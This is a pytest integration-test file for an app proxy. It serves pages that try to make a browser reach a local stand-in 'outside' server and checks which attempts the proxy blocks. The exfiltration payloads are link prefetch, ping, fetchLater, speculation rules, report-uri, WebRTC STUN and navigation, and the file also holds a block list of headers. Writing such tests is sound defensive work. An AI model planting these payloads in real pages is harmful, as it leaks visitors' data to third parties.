"""Attacks by what a page has a browser do: carry away what it sees, silently or not, and use what belongs to the machine.

Some of it no browser lets a site forbid. Those tests say so: they fail when a browser begins to hold it, and then the docs change.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Callable
from typing import Any
from urllib.parse import urlencode

import pytest
import pytest_asyncio
from aiohttp import web
from multidict import CIMultiDict
from playwright.async_api import Browser, Page

from core.front.ingress import headers
from core.front.ingress.headers import returning_headers
from tests.integration.node.front import FrontDoor, served
from tests.waiting import PATIENCE

# The most permissive policy that an app may send.
LOOSE = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'"
LEAVE = "url => { location.href = url }"


@pytest_asyncio.fixture(loop_scope="module")
async def page(front: FrontDoor, browser: Browser) -> AsyncIterator[Page]:
    """A page of a browser that is signed in at the app `photos`."""
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(f"http://{front.host()}{front.link()}")
    await page.goto(f"http://{front.host('photos')}/")
    yield page
    await context.close()


class Outside:
    """A web server beyond the cloud. `heard`: the requested paths."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.origin = ""

    async def answer(self, request: web.Request) -> web.Response:
        self.heard.append(request.path)
        return web.Response(text="<p>outside", content_type="text/html", headers={"Access-Control-Allow-Origin": "*"})

    async def hears(self, *paths: str) -> None:
        async with asyncio.timeout(PATIENCE):
            while not set(paths) <= set(self.heard):
                await asyncio.sleep(0.02)


@pytest_asyncio.fixture(loop_scope="module")
async def outside() -> AsyncIterator[Outside]:
    there = Outside()
    application = web.Application()
    application.router.add_route("*", "/{path:.*}", there.answer)
    async with served(application) as port:
        there.origin = f"http://outside.localhost:{port}"
        yield there


def said(text: str, headers: dict[str, str] | None = None, **more: str) -> str:
    return "/said?" + urlencode({"text": text, "headers": json.dumps(headers or {}), **more})


async def looked_at(page: Page, url: str, outside: Outside) -> list[str]:
    """Visit a page, let it do a few things of its own, and navigate away; return what was heard outside until then."""
    await page.goto(url)
    for number in range(5):
        await page.evaluate("url => fetch(url).then(() => {}, () => {})", f"/own/{number}")
    await page.evaluate("() => new Promise(done => requestIdleCallback(() => setTimeout(done, 300)))")
    await page.evaluate(LEAVE, f"{outside.origin}/last")
    await page.wait_for_url(f"{outside.origin}/last")
    return [path for path in outside.heard if path not in ("/last", "/favicon.ico")]


def of_headers(outside: Outside) -> dict[str, tuple[str, dict[str, str]]]:
    """How it contacts other hosts: a page's text and headers."""
    rules = json.dumps({"prefetch": [{"source": "list", "urls": [f"{outside.origin}/speculation"]}]})
    where = said(rules, type="application/speculationrules+json")
    reporting = f"img-src 'self'; report-uri {outside.origin}/report"
    return {
        "/speculation": ("x", {"Speculation-Rules": f'"{where}"'}),
        "/report": ("<img src='http://x.invalid/what-it-saw'>", {"Content-Security-Policy": reporting}),
        "/link": ("x", {"Link": f"<{outside.origin}/link>; rel=prefetch"}),
    }


@pytest.mark.parametrize("path", ["/speculation", "/report", "/link"])
async def test_attack_no_header_of_an_app_sends_the_browser_elsewhere(
    front: FrontDoor, page: Page, outside: Outside, path: str
) -> None:
    text, headers = of_headers(outside)[path]
    assert await looked_at(page, f"http://{front.host('photos')}{said(text, headers)}", outside) == []
    # The same page without core sends it.
    await page.goto(f"http://127.0.0.1:{front.app}{said(text, headers)}")
    await outside.hears(path)


ELEMENTS: dict[str, Callable[[str], str]] = {
    "prefetch": lambda url: f'<link rel="prefetch" href="{url}">',
    "preload": lambda url: f'<link rel="preload" as="image" href="{url}">',
    "modulepreload": lambda url: f'<link rel="modulepreload" href="{url}">',
    "icon": lambda url: f'<link rel="icon" href="{url}">',
    "manifest": lambda url: f'<link rel="manifest" href="{url}">',
    "style": lambda url: f'<p style="background: url({url})">x',
    "ping": lambda url: f'<a id="a" href="#x" ping="{url}">x</a><script>document.getElementById("a").click()</script>',
    "later": lambda url: f"<script>try {{ fetchLater('{url}', {{activateAfter: 0}}) }} catch {{}}</script>",
}


@pytest.mark.parametrize("name", ELEMENTS)
async def test_attack_no_element_of_the_loosest_page_fetches_from_elsewhere(
    front: FrontDoor, page: Page, outside: Outside, name: str
) -> None:
    text = ELEMENTS[name](f"{outside.origin}/element")
    url = f"http://{front.host('photos')}{said(text, {'Content-Security-Policy': LOOSE})}"
    assert await looked_at(page, url, outside) == []


def inline_rules(outside: Outside) -> str:
    rules = {"prefetch": [{"source": "list", "urls": [f"{outside.origin}/inline"], "eagerness": "immediate"}]}
    return f'<script type="speculationrules">{json.dumps(rules)}</script>'


async def test_attack_speculation_rules_in_a_page_without_a_policy_of_its_own_do_nothing(
    front: FrontDoor, page: Page, outside: Outside
) -> None:
    url = f"http://{front.host('photos')}{said(inline_rules(outside))}"
    assert await looked_at(page, url, outside) == []


async def test_attack_speculation_rules_pass_if_a_page_allows_inline_scripts(
    front: FrontDoor, page: Page, outside: Outside
) -> None:
    loose = {"Content-Security-Policy": LOOSE}
    await page.goto(f"http://{front.host('photos')}{said(inline_rules(outside), loose)}")
    await outside.hears("/inline")


@pytest.mark.parametrize("policy", [LOOSE, "default-src 'none'; script-src 'self'; webrtc 'block'"])
async def test_attack_webrtc_is_not_held_by_any_policy(front: FrontDoor, page: Page, policy: str) -> None:
    """A page sends datagrams to any address, and what it sees in the user's name to a server."""
    arrived = asyncio.Event()

    class Ear(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, address: Any) -> None:
            arrived.set()

    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(Ear, local_addr=("127.0.0.1", 0))
    try:
        await page.goto(f"http://{front.host('photos')}{said('x', {'Content-Security-Policy': policy})}")
        await page.evaluate(
            """async port => { const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]});
            peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); window.kept = peer }""",
            transport.get_extra_info("sockname")[1],
        )
        async with asyncio.timeout(PATIENCE):
            await arrived.wait()
    finally:
        transport.close()


@pytest.mark.parametrize("way", [LEAVE, "url => { window.open(url) }"])
async def test_attack_leading_the_visitor_away_is_not_held(
    front: FrontDoor, page: Page, outside: Outside, way: str
) -> None:
    await page.goto(f"http://{front.host('photos')}/")
    await page.evaluate(way, f"{outside.origin}/with-what-it-saw")
    await outside.hears("/with-what-it-saw")


async def test_attack_a_page_has_no_use_of_the_machines_devices(front: FrontDoor, page: Page) -> None:
    """Whatever the app's own header says; and the browser knows every name."""
    said_of_names: list[str] = []
    page.on("console", lambda message: said_of_names.append(message.text))
    allowed = {"Permissions-Policy": "camera=*, geolocation=*, usb=*, microphone=*", "Feature-Policy": "camera *"}
    await page.goto(f"http://{front.host('photos')}{said('x', allowed)}")
    open_to_it = await page.evaluate("() => document.featurePolicy.allowedFeatures()")
    assert not set(headers.FORBIDDEN) & set(open_to_it) and "fullscreen" in open_to_it
    refused = await page.evaluate(
        "() => new Promise(done => navigator.geolocation.getCurrentPosition(() => done('told'), error => done(error.message)))"
    )
    assert "permissions policy" in refused
    assert not [text for text in said_of_names if "Permissions-Policy" in text]


REACHING = [
    "Link", "Speculation-Rules", "Supports-Loading-Mode", "Origin-Trial", "SourceMap", "X-SourceMap", "Feature-Policy",
    "Permissions-Policy-Report-Only", "Document-Policy-Report-Only", "Attribution-Reporting-Register-Source", "Observe-Browsing-Topics",
]  # fmt: skip


@pytest.mark.parametrize("name", REACHING)
def test_attack_no_header_that_reaches_elsewhere_passes(name: str) -> None:
    assert name not in returning_headers(CIMultiDict({name: "x", name.upper(): "y"}))


@pytest.mark.parametrize(
    "policy",
    ["img-src *; report-uri http://e/", "REPORT-URI\thttp://e/;img-src *", "img-src *, report-to e", " \freport-to e ; img-src *"],
)  # fmt: skip
def test_attack_a_policy_that_reports_loses_its_address_alone(policy: str) -> None:
    kept, _ = returning_headers(CIMultiDict({"Content-Security-Policy": policy})).getall("Content-Security-Policy")
    assert "report" not in kept.lower() and "img-src *" in kept
